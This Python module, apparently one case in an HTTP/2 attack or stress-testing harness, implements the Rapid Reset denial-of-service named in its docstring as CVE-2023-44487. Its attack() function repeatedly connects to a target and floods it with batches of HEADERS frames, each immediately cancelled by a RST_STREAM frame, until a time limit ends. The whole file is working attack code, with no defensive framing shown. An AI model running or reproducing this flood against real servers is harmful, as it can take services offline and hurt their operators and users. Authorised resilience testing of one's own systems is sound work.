"""Streams that are reset as soon as they are open (CVE-2023-44487)."""

from cases import SOURCE, going
from http2 import END_HEADERS, HEADERS, HEALTH, PREFACE, RESET, SETTINGS, call_headers, connect, frame

SLICE = True


def attack(target, until):
    headers = call_headers(HEALTH)
    while going(until):
        try:
            one = connect(target, SOURCE, timeout=2.0)
            one.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for i in range(0, 20000, 20):
                one.sendall(b"".join(
                    frame(HEADERS, END_HEADERS, 2 * j + 1, headers) + frame(RESET, 0, 2 * j + 1, b"\0\0\0\x08")
                    for j in range(i, i + 20)))
                if not going(until):
                    break
            one.close()
        except OSError:
            pass
